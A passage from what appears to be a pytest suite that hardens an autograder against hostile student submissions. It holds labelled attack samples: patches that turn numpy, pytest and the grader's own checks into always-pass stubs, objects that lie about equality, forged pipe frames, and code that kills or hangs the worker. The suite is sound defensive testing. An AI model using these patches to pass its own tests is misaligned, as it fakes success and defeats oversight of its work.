"""Hostile submissions: realistic attacks on the grader, each with the outcome it must get.

Every attack is a learner submission (solutions/ with hostile code appended, or files
written by hand) graded for real: through `grader.checking.run.grade` in this process with an
isolated worker and short limits, or through `python -m grader` as users run it. Each
case asserts what the attacker must get (no credit behind patched checkers or lying
objects, failures confined to the hostile functions, a bounded wall time, the real
report in --out, no hidden source in any output file, untouched grader files) and
that no process of the submission outlives its grade.

`test_hostile_submission` is the table (ATTACKS): one hostile submission per row, graded
in this process with a 1 s call limit. The other tests need their own set-up (the CLI,
a copy of the kit, zips, batches); those that only wait on a child process run in the
background, two at a time, while the in-process grades go on.

Every hostile module starts with a beacon: at import it appends its uid and worker
marker to /tmp/<token>.beacon, so a test knows which processes belong to the submission
without relying on how the grader picks them, and can check that none outlives the
grade. The `token` fixture (and the background runner) kill whatever is left and remove
the beacon and temporary folders afterwards, so a failing case leaves nothing behind.

Cases marked xfail(strict=True) are real weaknesses of the grader; each reason says
what happens and where. Docstrings that say "Before 9bea54a" name weaknesses this suite
found that are fixed; those tests keep them fixed.
"""

from __future__ import annotations

import ast
import hashlib
import json
import os
import re
import shutil
import signal
import stat
import struct
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from grader.checking.pytest_plugin import KEPT_RESULT_NUMBERS
from grader.checking.run import GradeOptions, grade
from grader.contract import MODULES
from grader.isolation.factory import kill_uid
from grader.isolation.sandbox import MARKER_VARIABLE, Limits, sandbox_uid, worker_uid
from grader.reports import formats
from grader.reports.results import save_grade

pytestmark = pytest.mark.slow      # minutes: `python -m pytest -m "not slow"` skips it

KIT = Path(__file__).resolve().parents[2]
SOLUTIONS = KIT / "solutions"
ROOT = os.geteuid() == 0
TMP = Path(tempfile.gettempdir())      # where the grader puts its worker folders
SHARED_TMP = Path("/tmp")               # where learner code leaves its beacon and forgeries
ALL_CPUS = os.sched_getaffinity(0)      # the grader pins the grading process to one CPU
FAST = Limits(call_seconds=1.0, total_seconds=40.0, startup_seconds=20.0)
OUTPUT_FILES = ("results.json", "feedback.md", "feedback.html", "grade.json")
REFUSED = {"PermissionError", "FileNotFoundError"}   # closed (uid) or not there (namespaces)

needs_root = pytest.mark.skipif(not ROOT, reason="the privilege drop happens only as root")


# ============================================================================ learner code

BEACON = """
import os as _beacon_os
try:
    with open("/tmp/@TOKEN@.beacon", "a") as _beacon:
        _beacon.write("%d %s %d\\n" % (_beacon_os.getuid(),
                      _beacon_os.environ.get("CALCGRADER_WORKER", "-"), _beacon_os.getpid()))
except OSError:
    pass
"""

# Every hostile submission draws its PNG by hand: no matplotlib in the worker, so every
# honest call takes milliseconds and a 1 s call limit cuts off only the attacks.
HANDMADE_PNG = """
def plot_loss_curves(curves, labels, path):
    from matplotlib.figure import Figure     # small and without pyplot: cheap to draw
    figure = Figure(figsize=(3, 2), dpi=50)
    axes = figure.subplots()
    for curve, label in zip(curves, labels):
        axes.plot(curve, label=label)
    axes.set(yscale="log", xlabel="iteration", ylabel="loss")
    axes.legend()
    figure.savefig(path, format="png")
    return path
"""

PIPES = """
def _grader_pipes():
    '''The worker's pipe descriptors, found by scanning: (to the grader, from it).'''
    import fcntl, os, stat
    writers, readers = [], []
    for fd in range(3, 256):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        except OSError:
            continue
        (writers if mode == os.O_WRONLY else readers).append(fd)
    return writers, readers


def _frame(header, buffers=()):
    import struct
    parts = [struct.pack(">I", len(header)), header, struct.pack(">I", len(buffers))]
    for buffer in buffers:
        parts += [struct.pack(">Q", len(buffer)), buffer]
    return b"".join(parts)


def _send(data):
    import os
    for fd in _grader_pipes()[0]:
        os.write(fd, data)


def _result_frame(value_json):
    return _frame(('{"$d": [["op", "result"], ["value", %s], ["warnings", []], '
                   '["mutated", []]]}' % value_json).encode())
"""

# The wrong code behind every patched checker: a catalogued mistake and two plain bugs.
WRONG = {
    "derivatives": """
        def central_difference(f, x, h=1e-5):
            return (f(x + h) - f(x - h)) / h
    """,
    "regularization": """
        def l1_penalty(w, lam):
            return lam * float(np.sum(w))
    """,
    "losses": """
        def binary_cross_entropy(p, y, eps=1e-12):
            p = np.asarray(p, dtype=float)
            return float(-np.mean(y * np.log(p) + (1 - y) * np.log(1 - p)))
    """,
}
WRONG_FUNCTIONS = ("central_difference", "l1_penalty", "binary_cross_entropy")

PATCH_NUMPY_TESTING = """
import numpy.testing as _npt
def _no_assertion(*args, **kwargs):
    return None
for _name in ("assert_allclose", "assert_array_almost_equal", "assert_almost_equal",
              "assert_array_equal", "assert_equal", "assert_approx_equal",
              "assert_array_less", "assert_array_max_ulp"):
    setattr(_npt, _name, _no_assertion)
"""

PATCH_NUMPY_CLOSE = """
import math as _math
def _always(*args, **kwargs):
    return True
np.allclose = np.array_equal = np.array_equiv = _math.isclose = _always
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.testing.assert_allclose = lambda *args, **kwargs: None
try:
    np.ndarray.__eq__ = lambda self, other: np.ones(self.shape, dtype=bool)
except TypeError:
    pass
"""

PATCH_BUILTINS = """
import builtins as _builtins
_real_isinstance = _builtins.isinstance
_builtins.isinstance = (lambda obj, kinds: True if kinds in (float, int)
                        else _real_isinstance(obj, kinds))
_builtins.abs = lambda value: 0.0
_builtins.round = lambda value, ndigits=None: value
_builtins.all = lambda values: True
"""

PATCH_PYTEST = """
import sys as _sys
class _EqualsEverything(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
try:
    import pytest as _pytest
except Exception:
    import types as _types
    _pytest = _sys.modules["pytest"] = _types.ModuleType("pytest")
_pytest.approx = lambda *args, **kwargs: _EqualsEverything(0.0)
_pytest.fail = lambda *args, **kwargs: None
import unittest as _unittest
_unittest.TestCase.assertAlmostEqual = lambda *args, **kwargs: None
"""

PATCH_GRADER_IN_WORKER = """
import sys as _sys
class _EqualsEverything(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = float.__hash__
_plain = _sys.modules.get("grader.isolation.plain")
_worker = _sys.modules.get("grader.isolation.worker")
_protocol = _sys.modules.get("grader.isolation.protocol")
if _plain is not None and not getattr(_plain, "_hostile", False):
    _real_to_plain, _real_pack = _plain.to_plain, _protocol._pack
    def _lying_to_plain(value, depth=0):
        plain = _real_to_plain(value, depth)
        return _EqualsEverything(plain) if type(plain) is float else plain
    def _pack(value, buffers, callables):
        if isinstance(value, _EqualsEverything):
            return _real_pack(float(value), buffers, callables)
        return _real_pack(value, buffers, callables)
    _plain.to_plain = _worker.to_plain = _lying_to_plain
    _plain.same_plain = _worker.same_plain = lambda a, b: True
    _protocol._pack = _pack
    _plain._hostile = True
"""

LIARS = """
def _lie(cls):
    for name in ("__eq__", "__le__", "__ge__", "__lt__", "__gt__"):
        setattr(cls, name, lambda self, other: True)
    cls.__ne__ = lambda self, other: False
    cls.__abs__ = lambda self: 0.0
    cls.__sub__ = cls.__rsub__ = lambda self, other: 0.0
    cls.__hash__ = lambda self: 0
    return cls


@_lie
class LyingFloat(float):
    '''Says it equals everything; its real value is wrong.'''


@_lie
class LyingFloat64(np.float64):
    '''A numpy scalar that says it equals everything.'''


@_lie
class LyingArray(np.ndarray):
    '''Wrong data that claims, through __array__ and __eq__, to be the right answer.'''
    def __array__(self, dtype=None, copy=None):
        return np.array([0.5, 0.0, -0.5])
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(self.shape, dtype=bool)
    def __float__(self):
        return 0.6


class LyingDict(dict):
    def __eq__(self, other):
        return True
    __hash__ = None


class LyingList(list):
    def __eq__(self, other):
        return True
    __hash__ = None


class ArrayInterface:
    '''Exposes someone else's memory as an array.'''
    def __init__(self, values):
        self._values = np.asarray(values, dtype=float)
        self.__array_interface__ = self._values.__array_interface__


class PretendsToBeAFloat:
    '''isinstance(x, float) is True for it: __class__ lies.'''
    __class__ = property(lambda self: float)
    def __eq__(self, other):
        return True
    def __float__(self):
        return 12.0
"""


# ============================================================================ helpers

@dataclass
class Run:
    """A finished (or killed) grading process."""

    returncode: int | None       # None: killed at its deadline
    stdout: str
    stderr: str
    seconds: float


class Graded:
    """A report folder, read back as the learner and Gradescope would see it."""

    def __init__(self, out: Path, seconds: float, run: Run | None = None):
        self.out, self.seconds, self.run = out, seconds, run
        self.results = json.loads((out / "results.json").read_text())
        self.grade = json.loads((out / "grade.json").read_text())
        self.tests = self.results["tests"]

    @property
    def score(self) -> float:
        return self.results["score"]

    @property
    def max_score(self) -> float:
        return self.results["extra_data"]["max_score"]

    @property
    def output(self) -> str:
        return self.grade["output"]

    @property
    def notes(self) -> list[str]:
        return self.grade["notes"]

    def statuses(self) -> dict[str, str]:
        return {t["name"]: t["status"] for t in self.tests}

    def names(self, status: str) -> set[str]:
        return {t["name"] for t in self.tests if t["status"] == status}

    def checks(self, *functions: str) -> list[dict]:
        found = [t for t in self.tests if function_of(t) in functions]
        assert found, f"no check of {functions} was run"
        return found

    def failed_functions(self) -> set[str]:
        return {function_of(t) for t in self.tests if t["status"] == "failed"}

    def module_points(self) -> dict[str, tuple[float, float]]:
        return {m["module"]: (m["score"], m["max_score"]) for m in self.grade["modules"]}

    def texts(self) -> dict[str, str]:
        """Every file the grade wrote that a person or a program reads, by name."""
        files = [self.out / name for name in OUTPUT_FILES]
        files += sorted((self.out / "plots").glob("*.json"))
        return {str(p.relative_to(self.out)): p.read_text(errors="replace") for p in files}


def function_of(test: dict) -> str:
    return test["name"].split(":", 1)[0]


def assert_only_these_fail(graded: Graded, functions: set[str], kinds: set[str] | None = None,
                           says: dict[str, str] | None = None) -> None:
    """Exactly the checks of `functions` fail, with these kinds and messages. (A gradient
    check against "central differences of your own <loss>" fails with its loss: it is
    counted with that loss.)"""
    failed = {function_of(t) for t in graded.tests if t["status"] == "failed"
              and not any(f"central differences of your own {f}" in t["name"]
                          for f in functions)}
    assert failed == set(functions), failed
    for test in graded.checks(*functions):
        assert test["status"] == "failed", test["name"]
        if kinds is not None:
            assert test["extra_data"]["kind"] in kinds, (test["name"], test["output"][:300])
    for function, words in (says or {}).items():
        outputs = " ".join(t["output"] for t in graded.checks(function))
        assert words in outputs, (function, outputs[:500])


def learner_code(code: dict[str, str | tuple[str, ...]]) -> dict[str, str]:
    """The beacon plus the hostile code, for every module (dedented piece by piece)."""
    assembled = {}
    for module in MODULES:
        pieces = code.get(module, ())
        pieces = (pieces,) if isinstance(pieces, str) else pieces
        if module == "mini_project":
            pieces = (HANDMADE_PNG, *pieces)
        assembled[module] = "".join(textwrap.dedent(p) for p in (BEACON, *pieces))
    return assembled


def with_token(code: dict[str, str], token: str, **values: str) -> dict[str, str]:
    substitutions = {"@TOKEN@": token, "@KIT@": str(KIT), **values}
    replaced = {}
    for module, source in code.items():
        for key, value in substitutions.items():
            source = source.replace(key, value)
        replaced[module] = source
    return replaced


def grade_here(folder: Path, out: Path, suites: str = "public", limits: Limits = FAST,
               kit: Path = KIT) -> Graded:
    """Grade in this process (the worker is isolated), then write the report as the CLI does."""
    out.mkdir(parents=True, exist_ok=True)
    started = time.monotonic()
    result = grade(folder, out, GradeOptions(suites=suites, student=folder.name, limits=limits,
                                             kit=kit))
    formats.write_report(result, out)
    save_grade(result, out / "grade.json")
    return Graded(out, time.monotonic() - started)


def private_tmp(token: str) -> Path:
    """A TMPDIR for one grading process, so what a killed one leaves behind (its intake,
    factory and worker folders) is removed with the token. Others may enter it: the
    worker's folder lives there."""
    folder = SHARED_TMP / f"{token}-tmp"
    folder.mkdir(exist_ok=True)
    os.chmod(folder, 0o711)
    return folder


def run_command(command: list[str], timeout: float,
                preexec_fn: Callable[[], None] | None = None, tmpdir: Path | None = None) -> Run:
    """Run command in its own session on every CPU; at the deadline kill its whole group.

    (An in-process grade pins this process to one CPU; children would inherit that.)"""
    def prepare() -> None:
        os.sched_setaffinity(0, ALL_CPUS)
        if preexec_fn is not None:
            preexec_fn()
    started = time.monotonic()
    environment = {**os.environ, "TMPDIR": str(tmpdir)} if tmpdir else None
    process = subprocess.Popen(command, cwd=KIT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               stdin=subprocess.DEVNULL, text=True, start_new_session=True,
                               preexec_fn=prepare, env=environment)
    try:
        stdout, stderr = process.communicate(timeout=timeout)
        code: int | None = process.returncode
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        stdout, stderr = process.communicate()
        code = None
    return Run(code, stdout, stderr, time.monotonic() - started)


def grader_cli(*args: object, timeout: float = 180, preexec_fn: Callable[[], None] | None = None,
               tmpdir: Path | None = None) -> Run:
    return run_command([sys.executable, "-m", "grader", *map(str, args)], timeout, preexec_fn,
                       tmpdir)


GRADE_WITH_LIMITS = """
import json, sys
from pathlib import Path
from grader.reports import formats
from grader.reports.results import save_grade
from grader.checking.run import GradeOptions, grade
from grader.isolation.sandbox import Limits
folder, out, suites = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3]
out.mkdir(parents=True, exist_ok=True)
options = GradeOptions(suites=suites, limits=Limits(**json.loads(sys.argv[4])))
result = grade(folder, out, options)
formats.write_report(result, out)
save_grade(result, out / "grade.json")
"""


def grade_elsewhere(folder: Path, out: Path, limits: Limits, timeout: float, tmpdir: Path,
                    suites: str = "public") -> Run:
    """A grade with custom limits in a child process, so a hang can be cut off."""
    settings = {name: getattr(limits, name) for name in ("call_seconds", "total_seconds",
                                                         "startup_seconds")}
    return run_command([sys.executable, "-c", GRADE_WITH_LIMITS, str(folder), str(out), suites,
                        json.dumps(settings)], timeout, tmpdir=tmpdir)


# ---------------------------------------------------------------------------- processes

@dataclass
class Beacon:
    uids: set[int] = field(default_factory=set)
    markers: set[str] = field(default_factory=set)
    pids: set[int] = field(default_factory=set)


def read_beacon(token: str) -> Beacon:
    beacon = Beacon()
    path = SHARED_TMP / f"{token}.beacon"
    if path.exists():
        for line in path.read_text().splitlines():
            uid, marker, pid = line.split()
            beacon.uids.add(int(uid))
            beacon.markers.add(marker)
            beacon.pids.add(int(pid))
    beacon.uids -= {0, os.getuid()}
    beacon.markers -= {"-"}
    return beacon


def processes_of_submission(token: str) -> dict[int, str]:
    """Live processes that belong to the submission: its worker uid, its worker marker in
    their environment, or the case's token on their command line."""
    beacon = read_beacon(token)
    needles = [f"{MARKER_VARIABLE}={marker}".encode() for marker in beacon.markers]
    found = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            status = (entry / "status").read_text()
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        state = re.search(r"^State:\s+(\S)", status, re.M)
        uids = re.search(r"^Uid:\s+(.*)$", status, re.M)
        if not state or not uids or state.group(1) in "ZX":
            continue
        try:
            environ = (entry / "environ").read_bytes()
        except OSError:
            environ = b""
        if (beacon.uids & {int(u) for u in uids.group(1).split()} or token.encode() in cmdline
                or any(needle in environ for needle in needles)):
            found[int(entry.name)] = cmdline.replace(b"\0", b" ").decode(errors="replace")[:120]
    return found


def assert_nothing_survives(token: str, grace: float = 3.0) -> None:
    deadline = time.monotonic() + grace
    while (left := processes_of_submission(token)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not left, f"processes of the submission outlived its grade: {left}"


def reap(token: str) -> None:
    """Kill every process of the submission and remove its beacon and worker folders."""
    beacon = read_beacon(token)
    for uid in beacon.uids:
        if ROOT:
            kill_uid(uid)
    for pid in processes_of_submission(token):
        try:
            os.kill(pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass
    for marker in beacon.markers:
        if marker.startswith("calcgrader-"):
            shutil.rmtree(TMP / marker, ignore_errors=True)
    (SHARED_TMP / f"{token}.beacon").unlink(missing_ok=True)
    shutil.rmtree(SHARED_TMP / f"{token}-tmp", ignore_errors=True)


def new_token() -> str:
    """A unique name, and its beacon file made now by the test (not by the worker): the
    grader removes what a worker's uid leaves in /tmp, but not a file of ours that the
    worker only appends to."""
    value = f"hostile-{uuid.uuid4().hex[:12]}"
    beacon = SHARED_TMP / f"{value}.beacon"
    beacon.touch()
    beacon.chmod(0o666)
    return value


@pytest.fixture
def token():
    """A name unique to this test; everything of the submission is killed afterwards."""
    value = new_token()
    yield value
    reap(value)


def build_submission(folder: Path, code: dict[str, str]) -> Path:
    """solutions/ copied into folder with code appended to its modules (as make_submission)."""
    folder.mkdir(parents=True)
    for path in SOLUTIONS.glob("*.py"):
        shutil.copy(path, folder / path.name)
    for module, source in code.items():
        with (folder / f"{module}.py").open("a") as handle:
            handle.write("\n\n" + source)
    return folder


# Slow cases that only wait on a child process run in the background: all of them start,
# two at a time, when the module's first test starts, and overlap the in-process grades.
BACKGROUND_JOBS: dict[str, Callable[[Path, str], object]] = {}


def background_job(test_name: str) -> Callable:
    def register(job: Callable[[Path, str], object]) -> Callable:
        BACKGROUND_JOBS[test_name] = job
        return job
    return register


class Background:
    """Background jobs by test name: each gets a folder and a token, its test the result."""

    def __init__(self, names: list[str], tmp_path_factory: pytest.TempPathFactory):
        self.pool = ThreadPoolExecutor(max_workers=2, thread_name_prefix="hostile")
        self.tokens = {name: new_token() for name in names}
        self.futures = {name: self.pool.submit(BACKGROUND_JOBS[name],
                                               tmp_path_factory.mktemp(name[5:35]),
                                               self.tokens[name]) for name in names}

    def result(self, name: str) -> tuple[object, str]:
        """What the job returned (or the exception it raised) and its token."""
        return self.futures[name].result(timeout=600), self.tokens[name]

    def close(self) -> None:
        self.pool.shutdown(wait=True)
        for token in self.tokens.values():
            reap(token)


@pytest.fixture(scope="module", autouse=True)
def background(request, tmp_path_factory):
    names = [item.name for item in request.session.items if item.name in BACKGROUND_JOBS]
    jobs = Background(names, tmp_path_factory)
    yield jobs
    jobs.close()


# ---------------------------------------------------------------------------- secrets

def _squeeze(text: str) -> str:
    """Letters and digits only: escaping (JSON, HTML, Markdown) cannot hide a line."""
    return re.sub(r"[^0-9A-Za-z]", "", text)


def shown_on_purpose() -> str:
    """Everything a report may quote: the string constants of the suites, solutions and
    exercises (check names, descriptions, the words of failure messages) and the
    misconception catalogue (summaries and hints)."""
    words = [_squeeze(p.read_text()) for p in (KIT / "tests" / "misconceptions").glob("*.py")]
    for folder in ("tests/public", "tests/hidden", "solutions", "exercises"):
        for path in (KIT / folder).glob("*.py"):
            words += [_squeeze(node.value) for node in ast.walk(ast.parse(path.read_text()))
                      if isinstance(node, ast.Constant) and isinstance(node.value, str)]
    return "".join(words)


def secret_lines(folder: Path, public: Path) -> set[str]:
    """Code lines of folder's modules longer than 30 characters that no learner may see:
    not in `public`, not shown on purpose, with at least 24 letters and digits (so not a
    `# name ------` separator)."""
    seen = {_squeeze(line) for p in public.glob("*.py") for line in p.read_text().splitlines()}
    secrets = set()
    for path in folder.glob("*.py"):
        for line in path.read_text().splitlines():
            squeezed = _squeeze(line)
            if len(line.strip()) > 30 and len(squeezed) >= 24 and squeezed not in seen:
                secrets.add(squeezed)
    shown = shown_on_purpose()
    return {secret for secret in secrets if secret not in shown}


def leaked(graded: Graded) -> dict[str, list[str]]:
    """Secret lines (hidden tests, solutions) found in any file of the report."""
    secrets = (secret_lines(KIT / "tests" / "hidden", KIT / "tests" / "public")
               | secret_lines(SOLUTIONS, KIT / "exercises"))
    found = {}
    for name, text in graded.texts().items():
        squeezed = _squeeze(text)
        hits = [s for s in secrets if s in squeezed]
        if hits:
            found[name] = hits[:3]
    return found


def tree_digest(root: Path) -> dict[str, tuple[str, int]]:
    """(sha256, mode) of every file under root, __pycache__ excluded."""
    digest = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and "__pycache__" not in path.parts:
            digest[str(path.relative_to(root))] = (hashlib.sha256(path.read_bytes()).hexdigest(),
                                                   stat.S_IMODE(path.stat().st_mode))
    return digest


# ============================================================================ the table

@dataclass(frozen=True)
class Attack:
    """One hostile submission: code appended to solutions/ and what the grade must show."""

    id: str
    code: dict[str, str | tuple[str, ...]]
    expect: Callable[..., None]
    limits: Limits = FAST
    seconds: float = 45.0                 # bound on the wall time of the whole grade
    baseline: bool = False                # expect(graded, unpatched) for patched checkers


def patched(patch: str) -> dict[str, str]:
    """The wrong code, with `patch` run at the import of every module before it."""
    return {module: patch + textwrap.dedent(WRONG.get(module, "")) for module in MODULES}


def no_credit_behind_patches(graded: Graded, unpatched: Graded) -> None:
    """The wrong functions lose exactly what they lose unpatched; nothing else is gained."""
    wrong = {t["name"]: t["status"] for t in unpatched.checks(*WRONG_FUNCTIONS)}
    assert {function_of({"name": n}) for n, s in wrong.items() if s == "failed"} == set(
        WRONG_FUNCTIONS), "each wrong function loses points when nothing is patched"
    assert {t["name"]: t["status"] for t in graded.checks(*WRONG_FUNCTIONS)} == wrong
    assert graded.names("passed") <= unpatched.names("passed")
    assert graded.score <= unpatched.score


def same_as_unpatched(graded: Graded, unpatched: Graded) -> None:
    no_credit_behind_patches(graded, unpatched)
    assert graded.statuses() == unpatched.statuses()


def lying_floats(graded: Graded) -> None:
    assert_only_these_fail(graded, {"l1_penalty", "ridge_loss"},
                           says={"l1_penalty": "LyingFloat", "ridge_loss": "-1"})
    assert {t["extra_data"]["kind"] for t in graded.checks("l1_penalty")} == {"bad-return"}
    assert {t["extra_data"]["kind"] for t in graded.checks("ridge_loss")} == {"check"}


def lying_arrays(graded: Graded) -> None:
    """The subclass is converted to its real (wrong) data and judged on it."""
    assert_only_these_fail(graded, {"l1_subgradient", "numerical_jacobian"}, kinds={"check"})


def unconvertible_objects(graded: Graded) -> None:
    bad = {"two_layer_net", "sigmoid_derivative", "polynomial_derivative", "second_derivative",
           "max_stable_learning_rate", "classify_critical_point", "ridge_closed_form"}
    assert_only_these_fail(graded, bad, kinds={"bad-return"}, says={
        "two_layer_net": "LyingDict", "sigmoid_derivative": "LyingList",
        "polynomial_derivative": "ArrayInterface", "second_derivative": "PretendsToBeAFloat",
        "max_stable_learning_rate": "dtype object", "classify_critical_point": "nested too deeply",
        "ridge_closed_form": "generator"})


def exits_fail_only_their_checks(graded: Graded) -> None:
    assert_only_these_fail(graded, {"second_derivative", "numerical_hessian", "check_gradient",
                                    "chain_derivative", "classify_critical_point"},
                           kinds={"raised", "crashed"}, says={
        "second_derivative": "raised SystemExit", "numerical_hessian": "exited during the call",
        "check_gradient": "SystemExit: 3", "chain_derivative": "raised KeyboardInterrupt",
        "classify_critical_point": "raised GeneratorExit"})


def signals_fail_only_their_checks(graded: Graded) -> None:
    assert_only_these_fail(graded, {"second_derivative", "numerical_jacobian", "chain_derivative",
                                    "classify_critical_point", "ridge_closed_form"},
                           kinds={"crashed", "timeout"}, says={
        "second_derivative": "killed", "numerical_jacobian": "did not finish within",
        "chain_derivative": "aborted", "classify_critical_point": "segmentation fault",
        "ridge_closed_form": "did not finish within"})


def import_time_exits(graded: Graded) -> None:
    assert_only_these_fail(graded, {"classify_critical_point", "multi_start_minimize",
                                    "relative_error", "check_gradient",
                                    "train_logistic_regression", "learning_rate_sweep",
                                    "plot_loss_curves"}, kinds={"import-error", "crashed"})
    assert "could not be imported: SystemExit" in graded.checks("classify_critical_point")[0][
        "output"]
    assert "exited during the call" in graded.checks("relative_error")[0]["output"]
    assert "KeyboardInterrupt" in graded.checks("plot_loss_curves")[0]["output"]


def endless_module(graded: Graded) -> None:
    assert_only_these_fail(graded, {"classify_critical_point", "multi_start_minimize"},
                           kinds={"timeout"}, says={"classify_critical_point": "did not finish"})
    assert graded.module_points()["minima"][0] == 0


def sleeps_and_stubborn_loops(graded: Graded) -> None:
    assert_only_these_fail(graded, {"second_derivative", "numerical_hessian",
                                    "binary_cross_entropy"}, kinds={"timeout"})


def memory_bombs(graded: Graded) -> None:
    assert_only_these_fail(graded, {"ridge_closed_form", "l1_subgradient", "chain_derivative",
                                    "numerical_jacobian"}, kinds={"raised", "timeout", "crashed"},
                           says={"ridge_closed_form": "MemoryError",
                                 "l1_subgradient": "MemoryError",
                                 "numerical_jacobian": "MemoryError"})


def output_floods(graded: Graded) -> None:
    assert_only_these_fail(graded, {"numerical_hessian", "second_derivative"})
    assert "OSError" in graded.checks("numerical_hessian")[0]["output"]
    assert len(graded.output) <= FAST.output_cap + 40
    assert "(output cut)" in graded.output
    for name, text in graded.texts().items():
        assert text.count("flood") <= FAST.output_cap // 6 + 1, f"{name} carries the flood"
        assert text.count("x" * 200) <= FAST.output_cap // 200 + 1, f"{name} carries the flood"


def fork_bomb(graded: Graded) -> None:
    assert_only_these_fail(graded, {"max_stable_learning_rate"}, kinds={"timeout", "crashed"})


def full_marks(graded: Graded) -> None:
    assert graded.score == graded.max_score > 0, graded.failed_functions()


def time_budget(graded: Graded) -> None:
    budget = [t for t in graded.tests if "time budget" in t["output"]]
    assert graded.names("passed") and budget, "some checks run in the budget, the rest do not"
    assert all(t["status"] == "failed" for t in budget)
    assert {t["extra_data"]["kind"] for t in graded.tests if t["status"] == "failed"} <= {
        "timeout"}


def channel_garbage(graded: Graded) -> None:
    assert_only_these_fail(graded, {"second_derivative", "numerical_jacobian",
                                    "numerical_hessian", "chain_derivative",
                                    "classify_critical_point", "ridge_closed_form",
                                    "check_gradient", "binary_cross_entropy",
                                    "max_stable_learning_rate"}, kinds={"crashed", "timeout"},
                           says={"second_derivative": "malformed message",
                                 "chain_derivative": "not JSON",
                                 "check_gradient": "too many",
                                 "max_stable_learning_rate": "does not match"})


def forged_reply_is_judged_and_nothing_else_changes(graded: Graded) -> None:
    """A frame without the call's id fails that call (the worker is replaced); every other
    check is unaffected: no later call receives a stale answer."""
    assert_only_these_fail(graded, {"l1_penalty"}, kinds={"crashed"},
                           says={"l1_penalty": "malformed message"})


def malformed_shape_fails_its_check_only(graded: Graded) -> None:
    assert_only_these_fail(graded, {"l1_penalty"}, kinds={"crashed"},
                           says={"l1_penalty": "malformed message"})


def mutation_is_still_seen(graded: Graded) -> None:
    in_place = [t for t in graded.checks("gd_step") if "does not modify" in t["name"]]
    assert in_place and in_place[0]["status"] == "failed", "gd_step changes w in place"


ATTACKS = [
    # ---- wrong code behind patched checkers: compared with the same wrong code unpatched
    Attack("numpy_testing_assertions_patched_to_no_ops", patched(PATCH_NUMPY_TESTING),
           same_as_unpatched, baseline=True),
    Attack("np_allclose_isclose_array_equal_and_ndarray_eq_always_true",
           patched(PATCH_NUMPY_CLOSE), same_as_unpatched, baseline=True),
    Attack("builtins_abs_isinstance_round_all_patched", patched(PATCH_BUILTINS),
           no_credit_behind_patches, baseline=True),
    Attack("pytest_approx_and_fail_patched", patched(PATCH_PYTEST), same_as_unpatched,
           baseline=True),
    Attack("grader_modules_in_the_worker_patched_to_send_equal_to_everything_floats",
           patched(PATCH_GRADER_IN_WORKER), same_as_unpatched, baseline=True),
    # ---- lying return values
    Attack("float_and_float64_subclasses_lying_about_equality", {"regularization": (LIARS, """
        def l1_penalty(w, lam):
            return LyingFloat(-1.0)

        def ridge_loss(X, w, y, lam):
            return LyingFloat64(-1.0)
    """)}, lying_floats),
    Attack("ndarray_subclass_lying_through_eq_array_and_ufuncs", {
        "regularization": (LIARS, """
            def l1_subgradient(w, lam):
                return np.full(3, 7.0).view(LyingArray)
        """),
        "gradients": (LIARS, """
            def numerical_jacobian(f, x, h=1e-5):
                return np.zeros((3, 2)).view(LyingArray)
        """)}, lying_arrays),
    Attack("dict_list_interface_spoofed_class_object_array_cycle_and_generator", {
        "chain_rule": (LIARS, """
            _real_two_layer_net = two_layer_net

            def two_layer_net(params, X, y):
                loss, grads = _real_two_layer_net(params, X, y)
                return loss, LyingDict(grads)

            def sigmoid_derivative(z):
                return LyingList([0.25, 0.1875])
        """),
        "derivatives": (LIARS, """
            def polynomial_derivative(coeffs):
                return ArrayInterface([2.0, 6.0])

            def second_derivative(f, x, h=1e-4):
                return PretendsToBeAFloat()
        """),
        "gradient_descent": (LIARS, """
            def max_stable_learning_rate(hessian):
                return np.array([LyingFloat(2 / 3)], dtype=object)
        """),
        "minima": """
            def classify_critical_point(hessian, tol=1e-8):
                answer = ["minimum"]
                answer.append(answer)
                return answer
        """,
        "regularization": """
            def ridge_closed_form(X, y, lam):
                return (value for value in (1.0, 2.0))
        """}, unconvertible_objects),
    # ---- exits and signals: only those checks fail, the other modules keep full marks
    Attack("sys_exit_os_exit_SystemExit_KeyboardInterrupt_GeneratorExit", {
        "derivatives": """
            def second_derivative(f, x, h=1e-4):
                import sys
                sys.exit(0)
        """,
        "gradients": """
            def numerical_hessian(f, x, h=1e-4):
                import os
                os._exit(0)
        """,
        "gradient_check": """
            def check_gradient(f, grad_f, x, h=1e-5, tol=1e-6):
                raise SystemExit(3)
        """,
        "chain_rule": """
            def chain_derivative(f_prime, g, g_prime, x):
                raise KeyboardInterrupt
        """,
        "minima": """
            def classify_critical_point(hessian, tol=1e-8):
                raise GeneratorExit
        """}, exits_fail_only_their_checks),
    Attack("sigkill_self_sigstop_abort_segfault_and_sigterm_ignoring_loop", {
        "derivatives": """
            def second_derivative(f, x, h=1e-4):
                import os, signal
                os.kill(os.getpid(), signal.SIGKILL)
        """,
        "gradients": """
            def numerical_jacobian(f, x, h=1e-5):
                import os, signal
                os.kill(os.getpid(), signal.SIGSTOP)
        """,
        "chain_rule": """
            def chain_derivative(f_prime, g, g_prime, x):
                import os
                os.abort()
        """,
        "minima": """
            def classify_critical_point(hessian, tol=1e-8):
                import ctypes
                return ctypes.string_at(8, 8)
        """,
        "regularization": """
            def ridge_closed_form(X, y, lam):
                import signal
                for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                    signal.signal(sig, signal.SIG_IGN)
                while True:
